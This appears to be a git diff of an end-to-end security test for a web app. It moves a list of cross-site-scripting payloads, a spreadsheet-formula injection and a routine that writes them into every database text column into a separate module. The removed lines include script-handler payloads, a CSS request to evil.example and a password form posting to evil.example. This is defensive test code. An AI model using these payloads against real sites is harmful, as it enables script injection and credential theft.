@@ -14,75 +14,18 @@ import { mailSettingShape } from '../../src/platform/mail/sender.ts';
 import { examples } from './examples.ts';
 import { knock } from './knock.ts';
 import { type Planted, plant } from './plant.ts';
+import { all, markup, payloads, poison } from './poison.ts';
 import { openTown, someoneWithPassword, type Town } from './town.ts';
 
 const found = ['/usr/bin/chromium', '/usr/bin/chromium-browser', '/usr/bin/google-chrome'].find(existsSync);
 const browserPath = process.env.CHROMIUM_PATH ?? found;
 const built = existsSync(join(import.meta.dirname, '../../dist/desk/index.html'));
 
-const payloads = [
-  '<script>alert(1)</script>',
-  '"><img src=x onerror=alert(1)>',
-  "'><svg/onload=alert(1)>",
-  '<iframe srcdoc="<script>alert(1)</script>">',
-  'javascript:alert(1)',
-  '<a href="javascript:alert(1)">x</a>',
-  '</title><script>alert(1)</script>',
-  '</textarea><script>alert(1)</script>',
-  '</style><script>alert(1)</script>',
-  '<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>',
-  '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
-  '{{constructor.constructor("alert(1)")()}}',
-  '<details open ontoggle=alert(1)>',
-  '<body onload=alert(1)>',
-  '\u003cimg src=x onerror=alert(1)\u003e',
-  '&lt;img src=x onerror=alert(1)&gt;',
-  '<b id=hostile-markup>x</b>',
-  '<style>*{background:url(//evil.example/x)}</style>',
-  '<form action=https://evil.example><input name=password autofocus onfocus=alert(1)>',
-  "-->']]><script>alert(1)</script>",
-];
-/** All of them in one text that begins as a formula. */
-const all = ['=HYPERLINK("//evil.example")', ...payloads].join(' ');
-
-/** Columns that only ever hold codes, keys and hashes of our own, or what a door lets in by its kind alone; every other column of text is poisoned. */
-const ours = new Set(
-  `act arm birthday channel class code_hash country currency decision direction doubtful duty ended_because entry_key family field file_path
-  import_error.code key kind language line mailbox message_id moment normal occasion opened_by outcome password_hash principal purpose queue
-  reachability request_id result scopes screen sort_name source state step subject_id subject_kind template_key tier totp_secret trait
-  waits_for word zone`.split(/\s+/),
-);
-
-const markup = /<script>alert|<img src=x|<svg\/onload|<b id=hostile|<iframe srcdoc/;
-
 let town: Town;
 let planted: Planted;
 let listener: Listener | undefined;
 let browser: Browser | undefined;
 let cookie: string;
-
-/** Puts the payloads into every column that may hold words of anybody's, of every table there is. */
-const poison = async (): Promise<number> => {
-  const { pool } = town.house.database;
-  const { rows } = await pool.query<{ table: string; column: string }>(`
-    SELECT c.table_name AS table, c.column_name AS column FROM information_schema.columns c
-    JOIN information_schema.tables t USING (table_schema, table_name)
-    WHERE c.table_schema = 'public' AND t.table_type = 'BASE TABLE' AND c.data_type = 'text'
-      AND c.table_name NOT IN ('identity', 'field_source', 'migration', 'setting', 'suppression')`);
-  const open = rows.filter(({ table, column }) => !ours.has(column) && !ours.has(`${table}.${column}`));
-  for (const { table, column } of open) {
-    const own = column === 'number' || column === 'email' || table === 'product' ? ` || ' ' || gen_random_uuid()` : '';
-    // columns that only take words of ours refuse, and that is as good
-    await pool.query(`UPDATE "${table}" SET "${column}" = $1${own} WHERE "${column}" IS NOT NULL`, [all]).catch(() => undefined);
-  }
-  await pool.query('UPDATE customer SET custom = $1, given_name = $2, title = $2, city = $2', [
-    JSON.stringify({ [payloads[0] ?? '']: all }),
-    all,
-  ]);
-  await pool.query(`UPDATE event SET data = data || jsonb_build_object('words', $1::text, 'subject', $1::text, 'number', $1::text)`, [all]);
-  await pool.query('UPDATE import_error SET cells = $1', [JSON.stringify([all])]);
-  return open.length;
-};
 
 beforeAll(async () => {
   town = await openTown();
@@ -94,7 +37,7 @@ beforeAll(async () => {
       .execute((tx) => openSession(tx, { staffId: owner.staffId, openedBy: 'password', userAgent, address: '' }, town.house.clock.now()));
   const views = payloads.slice(0, 3).map((query) => ({ screen: 'customers', name: query.slice(0, 60), query: `q=${query}`, shared: true }));
   for (const body of views) await owner.ask('post', '/api/v1/views', { body });
-  expect(await poison()).toBeGreaterThan(40);
+  expect((await poison(town)).tried).toBeGreaterThan(40);
   const { word } = await town.house.db
     .transaction()
     .execute((tx) =>
